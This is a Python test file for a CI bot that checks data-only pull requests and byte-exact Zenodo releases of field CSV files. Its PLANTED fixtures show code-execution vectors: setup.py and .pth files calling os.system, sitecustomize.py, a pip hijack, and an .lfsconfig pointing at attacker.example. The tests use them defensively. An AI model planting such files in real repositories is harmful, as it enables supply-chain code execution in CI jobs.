"""A data pull request carries data only, and the bytes released are the committed blobs."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import zipfile

from release_helpers import CONTRIBUTOR, merged_release

from bot.local.sample import field_csv_bytes
from bot.scope import is_catalog_zip_name

# Files a data PR could plant to run code in a job that installs or runs Python from the checkout, or to
# change how git and git-lfs read the field files.
PLANTED = {
    "setup.py": b"import os; os.system('touch /tmp/pwned')\n",
    "pip/__main__.py": b"print('pwned')\n",
    "sitecustomize.py": b"print('pwned')\n",
    "evil.pth": b"import os; os.system('touch /tmp/pwned')\n",
    ".gitattributes": b"*.csv text eol=crlf ident\n",
    ".lfsconfig": b"[lfs]\n\turl = https://attacker.example/lfs\n",
    "fields/README.md": b"a note beside the data\n",
}


def test_a_data_pr_with_anything_but_field_files_is_refused_naming_each_file(world):
    world.open_pull(1, "Add field 487", CONTRIBUTOR, {"fields/field_487.csv": field_csv_bytes(487, 20), **PLANTED})
    run = world.pull_request(1)
    assert run.code == 1
    for path in PLANTED:
        assert f"::error file={path},title=" in run.stdout, path
        assert path.replace("_", "\\_") in run.summary, path
    assert "::error file=fields/field_487.csv" not in run.stdout  # the field file itself is fine


def test_a_pr_deleting_a_non_field_file_beside_field_files_is_refused(world):
    world.push_main({"fields/notes.txt": b"kept\n"}, "notes")
    world.open_pull(1, "Add field 487", CONTRIBUTOR, {"fields/field_487.csv": field_csv_bytes(487, 20),
                                                      "fields/notes.txt": None})
    run = world.pull_request(1)
    assert run.code == 1
    assert "::error file=fields/notes.txt,title=not-a-field-file" in run.stdout


def test_a_pr_of_field_files_only_passes(world):
    world.open_pull(1, "Fields", CONTRIBUTOR, {"fields/field_487.csv": field_csv_bytes(487, 20),
                                               "fields/field_488.csv": field_csv_bytes(488, 20)})
    run = world.pull_request(1)
    assert run.code == 0, run.stdout


def _blob(world, rev: str, path: str) -> bytes:
    return subprocess.run(["git", "-C", str(world.origin), "show", f"{rev}:{path}"], capture_output=True,
                          check=True).stdout


def test_gitattributes_eol_and_ident_change_no_released_byte(world):
    # A maintainer's .gitattributes (a data PR cannot carry one) rewrites line endings and $Id$ in the work
    # tree and in `git cat-file --filters`; the release must still hold the committed bytes.
    world.push_main({".gitattributes": b"*.csv text eol=crlf ident\n"}, "attributes")
    csv = field_csv_bytes(487, 30, seed=5)
    run, merge = merged_release(world, 1, {"fields/field_487.csv": csv})
    assert run.code == 0, run.stdout + run.stderr
    assert (world.workspace / "fields" / "field_487.csv").read_bytes() != csv  # the checkout did rewrite it
    committed = _blob(world, merge, "fields/field_487.csv")
    assert committed == csv
    (draft,) = world.zenodo.drafts_of(world.concept_id)
    key = next(k for k in draft["files"]["entries"] if is_catalog_zip_name(k))
    with zipfile.ZipFile(io.BytesIO(world.zenodo.file_bytes(draft["id"], key))) as zf:
        assert zf.read("field_487.csv") == committed
        manifest = json.loads(zf.read("MANIFEST.json"))
    (record,) = [f for f in manifest["fields"] if f["field"] == 487]
    assert record["md5"] == hashlib.md5(committed).hexdigest()
    assert record["size"] == len(committed)
